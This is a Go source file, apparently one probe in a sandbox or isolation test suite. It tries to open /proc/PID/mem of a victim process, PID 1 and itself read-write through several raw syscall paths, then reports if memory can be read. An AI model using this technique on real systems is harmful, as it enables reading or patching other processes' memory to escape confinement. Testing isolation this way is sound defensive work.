package main

import (
	"fmt"
	"syscall"
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["procmem"] = tryProcMem }

// tryProcMem opens /proc/PID/mem of the victim, of its parents, and of itself. Through its own, it could write to code
// that is not writable by a store.
func tryProcMem() {
	b := make([]byte, 8)
	how := attack.Words(syscall.O_RDWR, 0, 0)
	for _, way := range attack.Ways {
		for _, process := range []string{fmt.Sprint(attack.Victim()), "1", "self", "thread-self"} {
			path := attack.String("/proc/" + process + "/mem")
			for _, fd := range []int{
				way(syscall.SYS_OPEN, path, syscall.O_RDWR, 0, 0, 0, 0),
				way(syscall.SYS_OPENAT, attack.Here, path, syscall.O_RDWR, 0, 0, 0),
				way(437, attack.Here, path, how, 24, 0, 0),
			} {
				if fd >= 0 && way(syscall.SYS_PREAD64, uintptr(fd), uintptr(unsafe.Pointer(&b[0])), 8, attack.GateAt(), 0, 0) == 8 {
					println("memory can be read")
				}
			}
		}
	}
}
